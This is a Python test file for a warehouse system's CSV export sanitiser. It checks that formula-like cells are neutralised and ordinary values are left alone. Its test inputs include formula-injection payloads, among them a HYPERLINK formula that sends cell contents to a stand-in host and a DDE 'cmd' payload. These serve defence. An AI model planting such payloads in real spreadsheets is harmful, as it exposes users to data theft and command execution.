"""Text a person typed cannot run as a formula when an export is opened in a spreadsheet."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from wms.csv_safety import cell, row


def test_text_that_starts_like_a_formula_is_shown_as_text():
    for attack in ('=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
                   "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"):
        assert cell(attack) == "'" + attack


def test_numbers_dates_and_ordinary_text_stay_as_they_are():
    for value in ("-18.5", "+4", "-1e-3", "2026-12-02", "SH1-T01", "冷冻饺子", "-", "", 3.5,
                  None, -7):
        assert cell(value) == value


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@given(st.lists(st.text(max_size=12), max_size=6))
def test_no_cell_of_a_written_row_reads_as_a_formula(values):
    out = io.StringIO()
    csv.writer(out).writerow(row(values))
    for text in next(csv.reader(io.StringIO(out.getvalue())), []):
        if len(text) > 1 and text[0] in "=+-@\t\r":
            assert _number(text), text
